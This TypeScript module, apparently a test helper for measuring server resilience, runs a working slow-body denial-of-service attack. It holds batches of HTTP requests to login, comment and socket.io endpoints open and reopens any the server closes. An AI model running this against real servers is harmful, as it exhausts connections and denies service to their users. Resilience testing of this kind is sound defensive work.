import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';

/** The system queues a few hundred new connections only. */
const BATCH = 100;

const HEADS: readonly (readonly [line: string, length: string])[] = [
  ['POST /api/login', 'Content-Length: 99000'],
  ['POST /api/login', 'Transfer-Encoding: chunked'],
  ['POST /api/comments', 'Content-Length: 99000'],
  ['POST /socket.io/?EIO=4&transport=polling&sid=x', 'Content-Length: 15000'],
];

/** Sends a head and one byte of its body, once the server has begun to handle the request. */
const startBody = async (url: URL, index: number): Promise<Socket> => {
  const [line, length] = HEADS[index % HEADS.length] ?? ['', ''];
  const socket = connect(Number(url.port), url.hostname).on('error', () => undefined);
  socket.write(`${line} HTTP/1.1\r\nHost: ${url.host}\r\nExpect: 100-continue\r\n${length}\r\n\r\n`);
  await Promise.race([once(socket, 'data'), once(socket, 'close')]).catch(() => undefined);
  socket.write(length.startsWith('Transfer') ? '1\r\n{\r\n' : '{');
  return socket;
};

interface Attack {
  readonly address: string;
  readonly count: number;
}

/** Holds `count` requests open. @returns how many were begun so far, replacements of ended requests included */
const holdBodies = async ({ address, count }: Attack): Promise<() => number> => {
  const url = new URL(address);
  let begun = 0;

  const hold = async (index: number): Promise<void> => {
    begun += 1;
    const socket = await startBody(url, index);
    if (socket.destroyed) throw new Error('the server ended a body as it began');
    socket.resume().once('close', () => void hold(index));
  };

  for (let opened = 0; opened < count; opened += BATCH) {
    const size = Math.min(BATCH, count - opened);
    await Promise.all(Array.from({ length: size }, (_, index) => hold(opened + index)));
  }
  return () => begun;
};

export interface SlowBodies {
  /** @returns how many bodies were begun, replacements of ended bodies included */
  begun(): Promise<number>;
  close(): Promise<void>;
}

/**
 * Holds `count` requests open whose bodies do not arrive, without a token. Each that the server ends is begun anew. Runs in
 * a thread, so that the attackers do not delay the caller's own measurement.
 */
export const openSlowBodies = async (address: string, count: number): Promise<SlowBodies> => {
  const attack: Attack = { address, count };
  const worker = new Worker(new URL(import.meta.url), { workerData: attack });
  await once(worker, 'message');
  return {
    begun: async () => {
      worker.postMessage('count');
      const [count]: number[] = await once(worker, 'message');
      return count ?? 0;
    },
    close: async () => {
      await worker.terminate();
    },
  };
};

if (!isMainThread && parentPort) {
  const port = parentPort;
  const attack: Attack = workerData;
  const begun = await holdBodies(attack);
  port.on('message', () => port.postMessage(begun()));
  port.postMessage('open');
}
